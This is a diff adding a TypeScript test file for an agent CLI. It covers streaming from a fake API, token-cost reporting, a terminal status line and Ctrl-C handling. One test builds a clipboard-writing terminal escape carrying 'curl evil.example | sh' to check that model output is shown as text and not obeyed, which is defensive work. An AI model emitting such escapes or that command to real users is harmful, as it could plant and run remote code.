@@ -1,0 +1,428 @@
+// Real runs as a person sees them (issue 25): the real client streams, the terminal says who is
+// waiting, the lead's text appears as it arrives, thinking is one dim line, and every call says
+// what it cost. Against the local fake API, speaking the Messages API's server-sent events; the
+// terminal ones through the real CLI on a pseudo-terminal, rendered as a person reads them.
+import { afterEach, describe, expect, it } from "vitest";
+import { createIO } from "../../chapters/_runner/io.ts";
+import { notAMessage, realClient } from "../../chapters/_runner/model.ts";
+import { PRICES, priceOf } from "../../chapters/_runner/prices.ts";
+import { createEnv } from "../../chapters/_runner/runtime.ts";
+import { StatusLine } from "../../chapters/_runner/status.ts";
+import { costOf, UsageLedger } from "../../chapters/_runner/usage.ts";
+import type { CreateParams, MessageParam, StreamEvent } from "../../chapters/_shared/types.ts";
+import * as s01 from "../../chapters/s01-agent-loop/agent.ts";
+import * as s06 from "../../chapters/s06-subagent/agent.ts";
+import {
+  endTurn,
+  startFakeApi,
+  streamed,
+  toolUse,
+  type FakeApi,
+  type FakeReply,
+} from "../support/fake-api.ts";
+import { tempDir } from "../support/helpers.ts";
+import { runCli } from "../support/run-cli.ts";
+import {
+  hasPseudoTerminal,
+  render,
+  runCliInTerminal,
+  type TerminalRun,
+} from "../support/terminal.ts";
+import { waitFor } from "../support/wait.ts";
+
+const ESC = "\x1b";
+const MODEL = "claude-sonnet-5-5";
+const body = (content = "hi") =>
+  ({ model: MODEL, max_tokens: 100, messages: [{ role: "user", content }] }) as CreateParams;
+
+let api: FakeApi | undefined;
+afterEach(async () => {
+  await api?.close();
+  api = undefined;
+});
+
+/** A printer writing into a string, as the CLI's is (no colours, so no escapes of its own). */
+function printer(realUsage = true) {
+  let written = "";
+  const stream = { write: (text: string) => ((written += text), true) };
+  const io = createIO({ stream: stream as unknown as NodeJS.WritableStream, realUsage });
+  return { io, written: () => written };
+}
+
+async function envAgainst(replies: FakeReply[]) {
+  api = await startFakeApi(replies);
+  const client = await realClient({ ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: api.url });
+  const { io, written } = printer();
+  const env = createEnv({ workspace: tempDir("lah-stream-"), client, modelId: MODEL, io });
+  return { env, io, written, client };
+}
+
+describe("the real client streams, and hands the chapter the Message a plain call would", () => {
+  const replies: [string, () => FakeReply][] = [
+    ["text", () => streamed(endTurn("Hello there, streaming world."), { pieces: 4 })],
+    [
+      "text and a tool call",
+      () => streamed(toolUse("bash", { command: "ls -la", n: [1, 2] }, "Let me look."), {}),
+    ],
+    [
+      "thinking, text and cache counts",
+      () =>
+        streamed(endTurn("done"), {
+          thinking: "First, the files. Then the tests.",
+          usage: {
+            input_tokens: 10,
+            output_tokens: 20,
+            cache_read_input_tokens: 30,
+            cache_creation_input_tokens: 40,
+          },
+        }),
+    ],
+  ];
+  it.each(replies)("%s: deep-equal to the same reply sent as JSON", async (_, make) => {
+    const events = make();
+    api = await startFakeApi([{ body: events.body }, events]);
+    const client = await realClient({ ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: api.url });
+    const plain = await client.messages.create(body());
+    const seen: StreamEvent[] = [];
+    const live = await client.messages.create(body(), { onStream: (e) => seen.push(e) });
+    expect(live).toStrictEqual(plain);
+    expect(api.requests.every((r) => r.body.stream === true)).toBe(true);
+    // The text arrived in pieces, in order, and the pieces make the text.
+    const pieces = seen.flatMap((e) => (e.type === "text" ? [e.text] : []));
+    const text = plain.content.flatMap((b) => (b.type === "text" ? [b.text] : [])).join("");
+    expect(pieces.length).toBeGreaterThan(1);
+    expect(pieces.join("")).toBe(text);
+    // Every block was reported complete, as it is in the message.
+    expect(seen.flatMap((e) => (e.type === "block" ? [e.block] : []))).toStrictEqual(plain.content);
+  });
+
+  it("thinking and redacted_thinking blocks are messages' blocks (notAMessage accepts them)", () => {
+    const message = {
+      content: [
+        { type: "thinking", thinking: "hm", signature: "sig" },
+        { type: "redacted_thinking", data: "opaque" },
+        { type: "text", text: "ok" },
+      ],
+    };
+    expect(notAMessage(message)).toBeUndefined();
+    expect(notAMessage({ content: [{ type: "thinking" }] })).toMatch(/thinking/);
+  });
+
+  it("ANTHROPIC_AUTH_TOKEN is sent as Authorization: Bearer, with no x-api-key", async () => {
+    api = await startFakeApi([streamed(endTurn("ok"))]);
+    const client = await realClient({
+      ANTHROPIC_AUTH_TOKEN: "tok-123",
+      ANTHROPIC_BASE_URL: api.url,
+    });
+    await client.messages.create(body());
+    expect(api.requests[0].headers.authorization).toBe("Bearer tok-123");
+    expect(api.requests[0].headers["x-api-key"]).toBeUndefined();
+  });
+});
+
+describe("what the printer shows of a streamed answer", () => {
+  it("the lead's text is printed once, as it streams; its tool call once its input is whole", async () => {
+    const { env, written } = await envAgainst([
+      streamed(toolUse("bash", { command: "echo hi" }, "  Let me look.\n"), { pieces: 5 }),
+      streamed(endTurn("All done."), { usage: { input_tokens: 7, output_tokens: 3 } }),
+    ]);
+    const agent = s01.createAgent(env);
+    await agent.send("look");
+    const out = written();
+    expect(out.match(/assistant › Let me look\.\n/g)).toHaveLength(1);
+    expect(out.match(/⚙ bash/g)).toHaveLength(1);
+    expect(out).toMatch(/assistant › All done\.\n {2}tokens: 7 in · 3 out\n/);
+  });
+
+  it("model escapes split across deltas are shown, not obeyed (and astral format characters too)", async () => {
+    const clipboard = `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\x07`;
+    const said = `before ${ESC}[2K${clipboard} tag\u{E0041} after`;
+    // One code unit a piece: every escape sequence and the surrogate pair are cut in two.
+    const { env, written } = await envAgainst([streamed(endTurn(said), { pieces: said.length })]);
+    await s01.createAgent(env).send("hi");
+    const out = written();
+    // eslint-disable-next-line no-control-regex -- no raw control character may be left
+    expect(out).not.toMatch(/[\x1b\x07\r]/);
+    expect(out).not.toContain("\uFFFD");
+    expect(out).toContain("assistant › before \\u{1b}[2K\\u{1b}]52;c;");
+    expect(out).toContain("tag\\u{e0041} after");
+  });
+
+  it("a thinking block is one dim line, and stays in the history sent back", async () => {
+    const thinking = "Think about it. ".repeat(5);
+    const { env, written } = await envAgainst([
+      streamed(endTurn("An answer."), { thinking }),
+      streamed(endTurn("Second.")),
+    ]);
+    const agent = s01.createAgent(env);
+    await agent.send("first");
+    expect(written()).toContain(`thinking… (${thinking.length} characters)\n`);
+    expect(written()).not.toContain("Think about it");
+    const reply = agent.messages[1] as MessageParam & { content: { type: string }[] };
+    expect(reply.content[0]).toEqual({ type: "thinking", thinking, signature: "sig_fake" });
+    await agent.send("second");
+    expect(JSON.stringify(api!.requests[1].body.messages)).toContain('"signature":"sig_fake"');
+  });
+
+  it("s06: a subagent's answer is printed whole, and /usage adds up by agent", async () => {
+    const u = (input: number, output: number, read = 0) => ({
+      input_tokens: input,
+      output_tokens: output,
+      cache_read_input_tokens: read,
+    });
+    const { env, io, written } = await envAgainst([
+      streamed(toolUse("task", { description: "look", prompt: "Say hi." }, "Delegating."), {
+        usage: u(100, 10),
+      }),
+      streamed(endTurn("Hi from the child."), { usage: u(50, 5, 1000) }),
+      streamed(endTurn("The child said hi."), { usage: u(200, 20) }),
+    ]);
+    const agent = s06.createAgent(env);
+    await agent.send("delegate");
+    const out = written();
+    expect(out).toContain(
+      "[subagent] assistant › Hi from the child.\n[subagent]   tokens: 50 in · 5 out · 1,000 cache read\n",
+    );
+    expect(out.match(/assistant › Hi from the child/g)).toHaveLength(1);
+    const ledger = (io as { usage?: UsageLedger }).usage!;
+    const report = ledger.report();
+    const price = PRICES[MODEL];
+    const lead = (300 * price.input + 30 * price.output) / 1e6;
+    const child = (50 * price.input + 5 * price.output + 1000 * price.cacheRead) / 1e6;
+    expect(report).toMatch(
+      new RegExp(`lead\\s+2 calls\\s+300 in · 30 out\\s+≈ \\$${lead.toFixed(4)}`),
+    );
+    expect(report).toMatch(
+      new RegExp(
+        `subagent\\s+1 call\\s+50 in · 5 out · 1,000 cache read\\s+≈ \\$${child.toFixed(4)}`,
+      ),
+    );
+    expect(report).toMatch(/total\s+3 calls\s+350 in · 35 out · 1,000 cache read/);
+    expect(ledger.summary()).toBe(
+      `session: 3 model calls, 350 in · 35 out · 1,000 cache read, ≈ $${(lead + child).toFixed(4)}`,
+    );
+  });
+});
+
+describe("prices", () => {
+  it("the table's arithmetic: dollars per million tokens, by kind", () => {
+    // Sonnet 5.5: $2 in, $10 out, $0.20 cache read, $2.50 cache write (prices.ts).
+    expect(priceOf("claude-sonnet-5-5-20261001")).toEqual(PRICES["claude-sonnet-5-5"]);
+    const cost = costOf("claude-sonnet-5-5", {
+      input_tokens: 1000,
+      output_tokens: 200,
+      cache_read_input_tokens: 3000,
+      cache_creation_input_tokens: 400,
+    });
+    expect(cost).toBeCloseTo((1000 * 2 + 200 * 10 + 3000 * 0.2 + 400 * 2.5) / 1e6, 12);
+    // A version is not a date: an unknown model has no price, and says so.
+    expect(priceOf("claude-opus-5-5")).toBeUndefined();
+    const ledger = new UsageLedger();
+    ledger.add("lead", "local-llama", { input_tokens: 5, output_tokens: 6 });
+    expect(ledger.report()).toContain("price unknown");
+    expect(ledger.report()).toContain("no price known for local-llama");
+    expect(ledger.summary()).toBe("session: 1 model call, 5 in · 6 out (price unknown)");
+  });
+});
+
+describe("piped output", () => {
+  it("no spinner and no control characters: plain lines, the tokens line and the summary", async () => {
+    api = await startFakeApi([
+      streamed(endTurn("Hello there, streaming world."), {
+        firstDelayMs: 300,
+        delayMs: 50,
+        usage: { input_tokens: 12, output_tokens: 34 },
+      }),
+    ]);
+    const { stdout, code } = await runCli(["s01", "--workspace", tempDir()], {
+      input: "hello\n/usage\n",
+      env: { ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: api.url, MODEL_ID: "local-model" },
+    });
+    expect(code).toBe(0);
+    // eslint-disable-next-line no-control-regex -- no raw control character may be left
+    expect(stdout).not.toMatch(/[\x1b\r]/);
+    expect(stdout).not.toMatch(/waiting for|[⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏]/);
+    expect(stdout).toContain(
+      "assistant › Hello there, streaming world.\n  tokens: 12 in · 34 out\n",
+    );
+    expect(stdout).toMatch(/lead\s+1 call\s+12 in · 34 out\s+price unknown/);
+    expect(stdout).toContain("session: 1 model call, 12 in · 34 out (price unknown)");
+  });
+
+  it("offline: no token lines, and /usage says the scripted model's counts are not real", async () => {
+    const { stdout } = await runCli(["s01", "--workspace", tempDir()], { input: "\n/usage\n" });
+    expect(stdout).not.toMatch(/^\s*tokens:|^session:/m);
+    expect(stdout).toContain("The scripted model uses no tokens: its counts are not real");
+  });
+});
+
+describe("the status line (status.ts), on a stand-in terminal", () => {
+  function terminal() {
+    let written = "";
+    const tty = { columns: 80, write: (t: string) => ((written += t), true) };
+    const status = new StatusLine(tty as unknown as NodeJS.WriteStream);
+    return { tty, status, written: () => written };
+  }
+
+  it("agents waiting at once share one line; other output erases it and it comes back below", async () => {
+    const { tty, status, written } = terminal();
+    const lead = status.begin("lead");
+    const alice = status.begin("alice");
+    expect((await render(written(), { fromStream: true })).lines).toEqual([
+      expect.stringMatching(/^. waiting for lead \ds · alice \ds$/),
+    ]);
+    tty.write("[alice] a line printed meanwhile\n");
+    await waitFor(() => /alice \ds$/.test(written()), "the line drawn again");
+    expect((await render(written(), { fromStream: true })).lines).toEqual([
+      "[alice] a line printed meanwhile",
+      expect.stringMatching(/^. waiting for lead \ds · alice \ds$/),
+    ]);
+    lead.done();
+    expect((await render(written(), { fromStream: true })).lines.at(-1)).toMatch(
+      /^. waiting for alice \ds$/,
+    );
+    alice.done();
+    expect((await render(written(), { fromStream: true })).lines).toEqual([
+      "[alice] a line printed meanwhile",
+    ]);
+  });
+
+  it("never over a question: not drawn while one is open, nor after a line left unfinished", async () => {
+    const { tty, status, written } = terminal();
+    let answer = (_: string) => {};
+    const asked = status.hold(() => {
+      tty.write("? Allow bash? [yes/no] ");
+      return new Promise<string>((r) => (answer = r));
+    });
+    const call = status.begin("alice");
+    await new Promise((r) => setTimeout(r, 250)); // two ticks of the spinner
+    expect(written()).toBe("? Allow bash? [yes/no] ");
+    answer("yes");
+    await asked;
+    tty.write("you › "); // a prompt: the cursor stays on its line
+    await new Promise((r) => setTimeout(r, 250));
+    expect(written()).toBe("? Allow bash? [yes/no] you › ");
+    call.done();
+  });
+});
+
+/** The screen as it was when `pattern` first matched what had arrived. */
+async function screenWhen(run: TerminalRun, pattern: RegExp) {
+  let sofar = "";
+  for (const chunk of run.chunks) {
+    sofar += chunk.text;
+    if (pattern.test(sofar)) return { at: chunk.at, screen: await render(sofar) };
+  }
+  throw new Error(`never arrived: ${pattern}`);
+}
+const firstSeen = (run: TerminalRun, pattern: RegExp) => {
+  let sofar = "";
+  for (const chunk of run.chunks) {
+    sofar += chunk.text;
+    if (pattern.test(sofar)) return chunk.at;
+  }
+  return undefined;
+};
+
+describe.skipIf(!hasPseudoTerminal)("on a terminal (real CLI, pseudo-terminal)", () => {
+  const env = (url: string) => ({
+    ANTHROPIC_API_KEY: "sk-test",
+    ANTHROPIC_BASE_URL: url,
+    MODEL_ID: MODEL,
+  });
+
+  it("the status line appears at once, goes when the text starts; the text streams; tokens and /usage after", async () => {
+    const said = "Hello there, streaming world.";
+    api = await startFakeApi([
+      streamed(endTurn(said), {
+        firstDelayMs: 1500,
+        delayMs: 300,
+        pieces: 3,
+        usage: { input_tokens: 1000, output_tokens: 200, cache_read_input_tokens: 3000 },
+      }),
+    ]);
+    const run = runCliInTerminal(["s01", "--workspace", tempDir()], env(api.url));
+    await run.waitForScreen((s) => s.lines.some((l) => l.startsWith("you ›")), "the prompt");
+    const typed = Date.now();
+    run.type("say hello\r");
+    await run.waitForScreen((s) => s.lines.some((l) => l.includes(said)), "the answer");
+    const requested = api.requests[0].at;
+    const spinner = firstSeen(run, /[⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏] waiting for lead \ds/)!;
+    const firstEvent = api.sent[0].at;
+    // The request is whole at the server a moment after it was sent: the line can come first.
+    console.log(
+      `status line seen ${spinner - requested} ms after the request arrived (${spinner - typed} ms after Enter); first event sent ${firstEvent - requested} ms after the request`,
+    );
+    expect(spinner).toBeDefined();
+    expect(spinner).toBeLessThan(firstEvent);
+    // When the first piece of text is on screen, the status line is not.
+    // eslint-disable-next-line no-control-regex -- no raw control character may be left
+    const first = await screenWhen(run, /assistant ›(\x1b\[\d+m)? Hel/);
+    expect(first.screen.lines.filter((l) => /waiting for/.test(l))).toEqual([]);
+    // It streamed: the first piece was on screen before the last was sent.
+    const lastText = api.sent.filter((e) => e.event === "content_block_delta").at(-1)!.at;
+    expect(first.at).toBeLessThan(lastText);
+    const price = PRICES[MODEL];
+    const cost = (1000 * price.input + 200 * price.output + 3000 * price.cacheRead) / 1e6;
+    await run.waitForScreen((s) => s.lines.some((l) => l.includes("tokens:")), "the tokens line");
+    run.type("/usage\r");
+    const screen = await run.waitForScreen(
+      (s) => s.lines.some((l) => /^\s+lead\s+1 call/.test(l)),
+      "the /usage report",
+    );
+    const at = screen.lines.findIndex((l) => l.startsWith("assistant ›"));
+    expect(screen.lines.slice(at, at + 2)).toEqual([
+      `assistant › ${said}`,
+      "  tokens: 1,000 in · 200 out · 3,000 cache read",
+    ]);
+    expect(screen.lines.join("\n")).toMatch(
+      new RegExp(
+        `lead\\s+1 call\\s+1,000 in · 200 out · 3,000 cache read\\s+≈ \\$${cost.toFixed(4)}`,
+      ),
+    );
+    expect(screen.lines.filter((l) => /waiting for/.test(l))).toEqual([]);
+    run.type("q\r");
+    expect(await run.exited).toBe(0);
+    const end = await render(run.output());
+    expect(end.lines.join("\n")).toContain(
+      `session: 1 model call, 1,000 in · 200 out · 3,000 cache read, ≈ $${cost.toFixed(4)}`,
+    );
+  });
+
+  it("Ctrl-C mid-stream: the turn is dropped, the history stays valid, the prompt comes back", async () => {
+    api = await startFakeApi([
+      streamed(toolUse("bash", { command: "echo one" }, "Running it."), {}),
+      // Sends message_start, the block's start and two pieces of text, then holds the line open.
+      streamed(endTurn("This answer is cut off by Ctrl-C before it ends."), {
+        pieces: 6,
+        delayMs: 100,
+        hangAfter: 3,
+      }),
+      endTurn("Fresh answer."),
+    ]);
+    const run = runCliInTerminal(["s01", "--workspace", tempDir()], env(api.url));
+    await run.waitForScreen((s) => s.lines.some((l) => l.startsWith("you ›")), "the prompt");
+    run.type("run echo\r");
+    await run.waitForScreen(
+      (s) => s.lines.some((l) => l.startsWith("assistant › This answer")),
+      "the second answer's first pieces",
+    );
+    run.type("\x03");
+    await run.waitForScreen(
+      (s) => s.lines.some((l) => l.includes("interrupted: the turn was dropped")),
+      "the interruption",
+    );
+    run.type("again\r");
+    const screen = await run.waitForScreen(
+      (s) => s.lines.some((l) => l.includes("Fresh answer.")),
+      "the next answer",
+    );
+    expect(screen.lines.filter((l) => /waiting for/.test(l))).toEqual([]);
+    // The call that was cut carried the tool's answer; the dropped turn left nothing behind: the
+    // next request is the new prompt alone.
+    expect(JSON.stringify(api.requests[1].body.messages)).toContain('"type":"tool_result"');
+    expect(api.requests[2].body.messages).toEqual([{ role: "user", content: "again" }]);
+    run.type("q\r");
+    expect(await run.exited).toBe(0);
+  });
+});
